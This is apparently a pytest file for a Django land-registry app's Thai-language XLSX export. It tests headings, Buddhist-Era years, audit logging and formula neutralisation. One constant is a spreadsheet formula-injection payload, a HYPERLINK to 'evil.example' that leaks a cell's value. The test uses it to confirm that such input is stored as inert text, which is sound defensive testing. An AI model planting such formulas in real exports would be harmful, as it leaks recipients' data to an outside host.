"""The registry workbook (issue 8, items 6 and 13): Thai sheet names and column headings (English under the
switch), Buddhist-Era years in Thai, text a spreadsheet would run made inert, and an audit entry per file."""

import io

import pytest
from django.test import Client
from django.utils import translation
from openpyxl import load_workbook

from muang.core.access import Actor
from muang.core.models import AuditEntry, Duty, Role
from muang.core.tests.factories import OrganizationFactory, member
from muang.property.registry.services.exports import registry_xlsx
from muang.property.tests.factories import BuildingFactory, OwnerFactory, ParcelFactory

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"ดูรายละเอียด")'


@pytest.fixture
def org(areas):
    return OrganizationFactory()


@pytest.fixture
def officer(org):
    return Actor(user=member(org, Role.OFFICER, duties=[Duty.TAX]))


def workbook_of(content: bytes):
    return load_workbook(io.BytesIO(content))


def test_sheet_names_and_headings_are_thai(org, officer):
    parcel = ParcelFactory(organization=org, vacant_since=2020)
    BuildingFactory(parcel=parcel, year_built=2010)
    OwnerFactory(organization=org)
    with translation.override("th"):
        book = workbook_of(registry_xlsx(actor=officer, organization=org))
    assert book.sheetnames == [
        "แปลงที่ดิน",
        "สิ่งปลูกสร้าง",
        "ห้องชุด",
        "เจ้าของ",
        "การถือกรรมสิทธิ์",
        "ทะเบียนบ้าน",
        "ป้าย",
    ]
    parcels = list(book["แปลงที่ดิน"].iter_rows(values_only=True))
    assert parcels[0][:3] == ("รหัสแปลงที่ดิน", "ประเภทเอกสารสิทธิ์", "เลขที่เอกสารสิทธิ์")
    headings = dict(zip(parcels[0], parcels[1], strict=True))
    assert headings["ปีที่เริ่มทิ้งว่างเปล่า (พ.ศ.)"] == 2563  # Buddhist Era in Thai
    owners = next(book["เจ้าของ"].iter_rows(values_only=True))
    assert "เลขประจำตัวประชาชน" in owners and "national_id" not in owners
    buildings = list(book["สิ่งปลูกสร้าง"].iter_rows(values_only=True))
    assert dict(zip(buildings[0], buildings[1], strict=True))["ปีที่สร้างเสร็จ (พ.ศ.)"] == 2553
    every_heading = [cell.value for sheet in book.worksheets for cell in sheet[1]]
    assert len(every_heading) > 70
    assert [h for h in every_heading if h.isascii()] == [], "no developer English left"


def test_english_under_the_switch(org, officer):
    ParcelFactory(organization=org, vacant_since=2020)
    with translation.override("en"):
        book = workbook_of(registry_xlsx(actor=officer, organization=org))
    assert book.sheetnames[0] == "Parcels"
    header, row = book["Parcels"].iter_rows(values_only=True)
    assert (
        header[0] == "Parcel code" and dict(zip(header, row, strict=True))["Vacant since (year C.E.)"] == 2020
    )


def test_text_a_spreadsheet_would_run_is_inert(org, officer):
    owner = OwnerFactory(organization=org, name=EVIL, address="+66 เลขที่ 1", last_name="@SUM(1+1)")
    ParcelFactory(organization=org, address="-1 หมู่ 2")
    with translation.override("en"):
        book = workbook_of(registry_xlsx(actor=officer, organization=org))
    header, row = list(book["Owners"].iter_rows())[:2]
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    name = cells["Name"]
    assert name.value == "'" + EVIL and name.data_type == "s", "not a formula"
    assert all(c.data_type != "f" for sheet in book.worksheets for r in sheet.iter_rows() for c in r)
    assert owner.pk in [c.value for c in row]  # numbers stay numbers


def test_each_workbook_is_audited_with_its_row_count(org, officer):
    OwnerFactory(organization=org)
    ParcelFactory(organization=org)
    registry_xlsx(actor=officer, organization=org)
    entry = AuditEntry.objects.get(action=AuditEntry.Action.EXPORT)
    assert entry.actor_user == officer.user and entry.organization == org
    assert entry.object_type == "property.registry" and entry.changes["rows"] == 2


def test_the_api_workbook_follows_accept_language(org):
    client = Client()
    client.force_login(member(org, Role.OFFICER, duties=[Duty.TAX]))
    response = client.get(f"/api/v1/organizations/{org.slug}/registry.xlsx", HTTP_ACCEPT_LANGUAGE="th")
    assert response.status_code == 200
    assert workbook_of(response.content).sheetnames[0] == "แปลงที่ดิน"
